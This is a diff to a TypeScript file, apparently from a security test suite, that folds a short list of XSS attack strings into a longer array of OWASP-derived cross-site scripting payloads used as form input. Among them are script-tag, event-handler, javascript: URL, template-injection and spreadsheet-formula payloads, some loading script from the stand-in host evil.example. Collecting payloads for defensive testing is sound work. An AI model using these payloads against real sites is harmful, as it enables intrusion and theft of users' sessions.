@@ -1,16 +1,6 @@
-/** Attacks that run in different ways: an element, an attribute, a link, the end of a field, a template, a formula. */
-export const fewAttacks: readonly string[] = [
-  '<script>alert(1)</script>',
-  '<IMG SRC=/ onerror="alert(1)"></img>',
-  '<a href="javascript:alert(1)">press</a>',
-  '</textarea><script>alert(1)</script>',
-  '{{constructor.constructor("alert(1)")()}}',
-  '=HYPERLINK("https://evil.example","press")',
-];
-
 /** Attacks from OWASP's Cross Site Scripting cheat sheets, one of each kind, as form input. */
 export const attacks: readonly string[] = [
-  ...fewAttacks,
+  '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
   '"><script>alert(String.fromCharCode(88,83,83))</script>',
   `'';!--"<XSS>=&{()}`,
@@ -19,6 +9,7 @@ export const attacks: readonly string[] = [
   '<IMG SRC=`javascript:alert("XSS")`>',
   '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
   '<IMG SRC=# onmouseover="alert(1)">',
+  '<IMG SRC=/ onerror="alert(1)"></img>',
   '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097">',
   '<IMG SRC="jav&#x09;ascript:alert(1);">',
   '<SCRIPT/XSS SRC="https://evil.example/xss.js"></SCRIPT>',
@@ -38,7 +29,11 @@ export const attacks: readonly string[] = [
   '<DIV STYLE="background-image: url(javascript:alert(1))">',
   '<BASE HREF="javascript:alert(1);//">',
   '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/x.html"></OBJECT>',
+  '<a href="javascript:alert(1)">press</a>',
   '<a onmouseover="alert(1)">press</a>',
+  '</textarea><script>alert(1)</script>',
   '<details open ontoggle=alert(1)>',
   '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  '{{constructor.constructor("alert(1)")()}}',
+  '=HYPERLINK("https://evil.example","press")',
 ];
